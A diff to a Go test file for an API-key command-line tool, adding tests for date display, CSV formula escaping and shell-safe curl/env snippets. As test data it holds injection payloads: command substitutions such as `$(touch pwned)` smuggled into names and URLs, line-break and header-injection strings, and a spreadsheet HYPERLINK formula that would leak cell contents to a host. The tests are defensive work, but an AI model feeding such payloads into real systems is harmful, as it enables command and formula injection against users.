@@ -11,6 +11,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode/utf8"
 
 	"github.com/apikeyhq/apikey/internal/apikey"
 )
@@ -110,6 +111,9 @@ func TestTimesAndColour(t *testing.T) {
 			t.Errorf("%v ago: %q, want %q", d, got, want)
 		}
 	}
+	if far := time.Date(2999, 1, 31, 0, 0, 0, 0, time.UTC); p.when(&far) != "2999-01-31" {
+		t.Errorf("a time further than a Duration can hold: %q", p.when(&far))
+	}
 	if got := p.when(nil); got != "never" {
 		t.Errorf("nil time: %q", got)
 	}
@@ -123,6 +127,53 @@ func TestTimesAndColour(t *testing.T) {
 	p.TTY = false
 	if got := p.when(&created); got != "2026-03-01T08:30:15Z" {
 		t.Errorf("time for a script: %q", got)
+	}
+}
+
+// TestDetailDates checks that show and company show, at a terminal, give
+// the date itself with the relative time beside it: "14 days ago" alone
+// does not say which day, while lists stay compact.
+func TestDetailDates(t *testing.T) {
+	p := &Printer{Format: Table, TTY: true, Now: now}
+	k := testKey()
+	used := now.Add(-90 * time.Second)
+	farExpiry := time.Date(2999, 1, 31, 0, 0, 0, 0, time.UTC)
+	soonExpiry := now.Add(72 * time.Hour)
+	k.LastUsedAt, k.ExpiresAt = &used, &farExpiry
+	var b bytes.Buffer
+	if err := p.Key(&b, k); err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{
+		`(?m)^Created: +2026-03-01T08:30:15Z \(14 days ago\) by tester$`,
+		`(?m)^Updated: +2026-03-01T08:30:15Z \(14 days ago\)$`,
+		`(?m)^Expires: +2999-01-31T00:00:00Z$`,
+		`(?m)^Last used: +2026-03-15T11:58:30Z \(1 minute ago\)$`,
+	} {
+		if !regexp.MustCompile(want).MatchString(b.String()) {
+			t.Errorf("show at a terminal lacks %q:\n%s", want, b.String())
+		}
+	}
+	k.ExpiresAt = &soonExpiry
+	b.Reset()
+	p.Key(&b, k)
+	if want := `(?m)^Expires: +2026-03-18T12:00:00Z \(3 days from now\)$`; !regexp.MustCompile(want).MatchString(b.String()) {
+		t.Errorf("show at a terminal lacks %q:\n%s", want, b.String())
+	}
+	b.Reset()
+	if err := p.Company(&b, apikey.Company{ID: "c1", Name: "Acme", CreatedAt: created, UpdatedAt: used}, nil); err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{`(?m)^Created: +2026-03-01T08:30:15Z \(14 days ago\)$`, `(?m)^Updated: +2026-03-15T11:58:30Z \(1 minute ago\)$`} {
+		if !regexp.MustCompile(want).MatchString(b.String()) {
+			t.Errorf("company show at a terminal lacks %q:\n%s", want, b.String())
+		}
+	}
+	// Lists keep the relative time alone.
+	b.Reset()
+	p.Companies(&b, []apikey.Company{{ID: "c1", Name: "Acme", CreatedAt: created}})
+	if !strings.Contains(b.String(), "14 days ago") || strings.Contains(b.String(), "2026-") {
+		t.Errorf("companies table at a terminal:\n%s", b.String())
 	}
 }
 
@@ -248,6 +299,32 @@ func TestCSV(t *testing.T) {
 	}
 }
 
+// TestCSVFormulas checks OWASP's rule for CSV cells: one that starts with
+// =, +, -, @, a tab or a carriage return gets a single quote in front;
+// others are left as they are, and the result is valid CSV.
+func TestCSVFormulas(t *testing.T) {
+	cells := map[string]string{
+		"=1+1": "'=1+1", "+1": "'+1", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
+		"a=1": "a=1", "": "", "'=x": "'=x", "PRUEBA 1": "PRUEBA 1", "2026-03-01T08:30:15Z": "2026-03-01T08:30:15Z",
+		`=HYPERLINK("http://x/?"&A1,"y")`: `'=HYPERLINK("http://x/?"&A1,"y")`,
+	}
+	var b bytes.Buffer
+	w := NewCSVWriter(&b)
+	var in, want []string
+	for c, q := range cells {
+		in, want = append(in, c), append(want, q)
+	}
+	w.Write(in)
+	w.Flush()
+	if err := w.Error(); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil || len(rows) != 1 || !reflect.DeepEqual(rows[0], want) {
+		t.Errorf("CSV %q read back as %q, %v; want %q", in, rows, err, want)
+	}
+}
+
 func TestSnippets(t *testing.T) {
 	k := testKey()
 	k.Company.Ref = "273-542-26244"
@@ -311,7 +388,15 @@ func TestShellQuoting(t *testing.T) {
 	dir := t.TempDir()
 	k := testKey()
 	k.Name, k.Company.Name = `it's $(touch pwned)`, "`touch pwned`; 'x'"
-	for _, url := range []string{"", "https://api.example.test/it's?$(touch pwned)"} {
+	// Validation keeps line breaks out of names, but the comment that names
+	// the key must not depend on it: a line break would end the comment.
+	broken := testKey()
+	broken.Name, broken.Company.Name, broken.Company.Ref = "a\ntouch pwned\n", "b\rtouch pwned\u2028\u0085", "c\n\ttouch pwned"
+	for _, tc := range []struct {
+		k   apikey.Key
+		url string
+	}{{k, ""}, {k, "https://api.example.test/it's?$(touch pwned)"}, {broken, ""}} {
+		k, url := tc.k, tc.url
 		sn := Snippet{KeyHeader: "X-Api-Key", CompanyHeader: "X-Company", Secret: secret, Key: k, APIURL: url}
 		var curl, env bytes.Buffer
 		sn.Write(&curl, "curl")
@@ -335,5 +420,27 @@ func TestShellQuoting(t *testing.T) {
 	}
 	if entries, _ := os.ReadDir(dir); len(entries) != 0 {
 		t.Errorf("a snippet ran a command: %s was created", entries[0].Name())
+	}
+}
+
+// TestSnippetCommentIsOneLine checks that whatever a name holds, the comment
+// that names the key stays one line, and shows what it hides.
+func TestSnippetCommentIsOneLine(t *testing.T) {
+	k := testKey()
+	k.Name, k.Company.Name, k.Company.Ref = "a\nb", "c\r\nX-Evil: 1\u2028\u202e", "d\u0085e\x00\xff"
+	sn := Snippet{KeyHeader: "X-Api-Key", CompanyHeader: "X-Company", Secret: secret, Key: k}
+	for f, lines := range map[SnippetFormat]int{"headers": 3, "curl": 4, "env": 3} {
+		var b bytes.Buffer
+		if err := sn.Write(&b, f); err != nil {
+			t.Fatal(err)
+		}
+		got := b.String()
+		if n := strings.Count(got, "\n"); n != lines || strings.ContainsAny(got, "\r\u2028\u2029\u0085\u202e\x00") || !utf8.ValidString(got) {
+			t.Errorf("%s snippet has %d lines, want %d, or a line break or control character:\n%q", f, n, lines, got)
+		}
+		comment, _, _ := strings.Cut(got, "\n")
+		if want := `API key "a\nb" of c\r\nX-Evil: 1\u2028\u202e (d\u0085e\x00\xff)`; !strings.HasSuffix(comment, want) {
+			t.Errorf("%s comment %q, want it to end in %q", f, comment, want)
+		}
 	}
 }
